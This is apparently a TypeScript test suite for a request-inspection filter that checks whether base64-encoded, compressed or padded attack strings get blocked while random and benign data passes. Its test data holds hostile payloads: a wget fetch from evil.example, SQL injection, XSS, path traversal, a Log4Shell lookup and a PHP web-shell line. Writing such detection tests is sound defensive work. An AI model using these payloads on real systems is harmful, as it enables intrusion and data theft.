import assert from 'node:assert/strict'
import { createHash, generateKeyPairSync } from 'node:crypto'
import { describe, test } from 'node:test'
import { deflateSync, gzipSync } from 'node:zlib'
import { type InspectedRequest, inspect } from '../src/index.ts'

const ATTACKS = [
  '$(wget http://evil.example/a -O /tmp/a)',
  "' UNION SELECT password FROM users -- ",
  '<script>alert(1)</script>',
  '../../../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
]

/** Random bytes, by a seed. */
function noise(seed: string, length: number): Buffer {
  const parts: Buffer[] = []
  for (let i = 0; i * 32 < length; i++) parts.push(createHash('sha256').update(`${seed} ${i}`).digest())
  return Buffer.concat(parts).subarray(0, length)
}

const asked = (value: string): InspectedRequest => ({
  method: 'GET',
  target: `/items?id=${encodeURIComponent(value)}`,
  headers: [],
})

const sent = (value: string, name = 'id'): InspectedRequest => ({
  method: 'POST',
  target: '/items',
  headers: ['content-type', 'application/json'],
  body: Buffer.from(JSON.stringify({ [name]: value })),
})

function verdictsOf(bytes: Buffer): readonly string[] {
  const value = bytes.toString('base64')
  return [asked(value), sent(value)].map(request => inspect(request).verdict)
}

describe('bytes in base64', () => {
  for (const [name, around] of [
    ['a byte outside of every character', [Buffer.from([0xff]), Buffer.from([0x01])]],
    ['letters beyond ASCII', [Buffer.from('é '), Buffer.from(' été à Genève')]],
    ['another script', [Buffer.from('Привет '), Buffer.from(' 世界')]],
    ['zeros', [Buffer.alloc(4), Buffer.alloc(4)]],
    ['a thousand bytes of noise', [noise('before', 1_000), noise('behind', 1_000)]],
    ['eleven thousand bytes of noise', [noise('before', 5_500), noise('behind', 5_500)]],
    ['the start of a picture', [Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), Buffer.from([0xff, 0xd9])]],
  ] as const)
    test(`hide no attack: ${name}`, () => {
      const [before, behind] = around
      for (const attack of ATTACKS) {
        const text = Buffer.from(attack)
        for (const bytes of [
          Buffer.concat([before, text]),
          Buffer.concat([text, behind]),
          Buffer.concat([before, text, behind]),
        ])
          assert.deepEqual(verdictsOf(bytes), ['block', 'block'], `${name}: ${bytes.toString('latin1')}`)
      }
    })

  test('hide no attack in a file that is text but for some of them', () => {
    const lines = Buffer.from('Größe;Stück;Preis\r\n'.repeat(900), 'latin1')
    for (const stray of [[0xff], [0xe9, 0x20], [0x01], [0xc3, 0x28, 0x00]])
      for (const attack of ATTACKS)
        for (const bytes of [
          Buffer.concat([Buffer.from(stray), Buffer.from(`${attack}\n`), lines]),
          Buffer.concat([lines, Buffer.from(`${attack}\n`), Buffer.from(stray)]),
        ])
          assert.deepEqual(verdictsOf(bytes), ['block', 'block'], attack)
  })

  test('hide no attack whose white space is a byte that databases and pages take for such', () => {
    for (const space of ['\u000b', '\u000c', '\u0085', '\u00a0'])
      for (const attack of [`1' or${space}1=1 -- x`, `1 union${space}all${space}select${space}null,user(),3`])
        assert.deepEqual(verdictsOf(Buffer.from(attack, 'latin1')), ['block', 'block'], attack)
  })

  test('hide no attack where a decoder passes over what is not base64, or a program takes it apart', () => {
    for (const attack of ATTACKS) {
      const coded = Buffer.from(attack).toString('base64')
      const cut = (sign: string, at = 6): string => coded.slice(0, at) + sign + coded.slice(at)
      for (const value of [
        ...[' ', '!', '.', '*', '=', '\n', '-', '_', '\u00e9', ':', '~~'].map(sign => cut(sign)),
        coded.replace(/.{19}/g, '$& '),
        coded.replace(/.{19}/g, '$&.'),
        `.${coded}`,
        `v1:${coded}`,
        ...['\t', '\v', '\f', ' \n'].map(sign => cut(sign)),
        `${coded};base64,QUFBQUFBQUFBQUFBQUFB`,
        `,QUFBQUFBQUFBQUFBQUFBQUFBQUFB ${coded}`,
        `"${coded}"`,
        `data=${coded}`,
        `${coded}--${'0a'.repeat(20)}`,
        `${coded} and more`,
        `${Buffer.from(attack.padEnd(Math.ceil(attack.length / 3) * 3)).toString('base64')}/QUFBQUFBQUFBQQ==`,
      ])
        for (const request of [asked(value), sent(value)])
          assert.equal(inspect(request).verdict, 'block', value)
    }
  })

  test('hide no attack of a few characters that stand at their end', () => {
    const attack = '1 or 1=1 or 2=2;'
    for (let length = 20; length < 60; length++) {
      const bytes = Buffer.concat([
        noise(`before ${length}`, length),
        Buffer.from([0xff]),
        Buffer.from(attack),
      ])
      assert.deepEqual(verdictsOf(bytes), ['block', 'block'], `${length}`)
    }
  })

  test('hide no attack when they are compressed', () => {
    for (const attack of ATTACKS)
      for (const pack of [gzipSync, deflateSync]) {
        const packed = pack(Buffer.concat([Buffer.from([0xff]), Buffer.from(`${attack} é`)]))
        assert.deepEqual(verdictsOf(packed), ['block', 'block'], attack)
      }
  })

  test('pass when they are random: ids, keys, digests, encrypted values', () => {
    for (let i = 0; i < 5_000; i++)
      assert.deepEqual(verdictsOf(noise(`id ${i}`, 7 + (i % 60))), ['pass', 'pass'], `${i}`)
    for (let i = 0; i < 200; i++)
      assert.deepEqual(verdictsOf(noise(`value ${i}`, 2_048 + i * 60)), ['pass', 'pass'], `${i}`)
  })

  test('pass when they are a file, whatever is written in it', () => {
    const names = Buffer.from(
      '/etc/passwd\0%s: %n\0SELECT a FROM b\0sh -c id\0<script>x()</script>\0../../etc\0',
    )
    const program = Buffer.concat([
      Buffer.from('\x7fELF\x02\x01\x01', 'latin1'),
      Buffer.alloc(3_000),
      ...Array.from({ length: 40 }, (_, i) =>
        Buffer.concat([noise(`code ${i}`, 900), Buffer.alloc(700), names]),
      ),
    ])
    for (const length of [14_000, 30_000, 60_000]) {
      const coded = program.subarray(0, length).toString('base64')
      for (const value of [
        coded,
        coded.replace(/.{76}/g, '$&\r\n'),
        `data:application/octet-stream;base64,${coded}`,
      ])
        assert.deepEqual(inspect(sent(value)).matches, [], `${length}: ${value.slice(0, 60)}`)
    }
  })

  test('pass when a browser read a file of text for a script, unless it acts where it is shown or included', () => {
    const source = Buffer.from(
      `import os\n\ndef main():\n    os.system("ls -la")\n    ask("SELECT * FROM users WHERE id = 1")\n${'# so\n'.repeat(80)}`,
    )
    for (const type of ['text/plain', 'text/x-python', 'application/octet-stream', 'text/csv;charset=utf-8'])
      assert.equal(
        inspect(sent(`data:${type};base64,${source.toString('base64')}`, 'file')).verdict,
        'pass',
        type,
      )
    const php = Buffer.concat([Buffer.from("<?php\n$a = 1;\nsystem($_GET['c']);\n?>\n"), source]).toString(
      'base64',
    )
    const page = Buffer.concat([Buffer.from('<script>alert(1)</script>\n'), source]).toString('base64')
    for (const value of [
      `data:text/plain;base64,${php}`,
      `data:application/x;base64,${php}`,
      `data:text/html;base64,${page}`,
      `data:image/svg+xml;base64,${page}`,
      `data:text/plain;base64,${php} `,
      ...ATTACKS.map(attack => `data:text/plain;base64,${Buffer.from(attack).toString('base64')}`),
    ])
      assert.equal(inspect(sent(value, 'file')).verdict, 'block', value)
  })

  test('pass when they are messages that hold honest text', () => {
    const { publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
    const comment = Buffer.from('\x00\x00\x00\x19tEXtSoftware\x00Adobe ImageReady', 'latin1')
    for (const bytes of [
      publicKey.export({ type: 'spki', format: 'der' }),
      Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), comment, noise('picture', 300)]),
      Buffer.concat([Buffer.from('\x0a\x0cshop/orders\x12\x10', 'latin1'), noise('cursor', 16)]),
      Buffer.from(JSON.stringify({ name: 'José Ñandú', city: 'Zürich', note: "it's fine" })),
      Buffer.from('Привет, мир! Как дела?'),
    ])
      assert.deepEqual(verdictsOf(bytes), ['pass', 'pass'], bytes.toString('latin1'))
  })
})
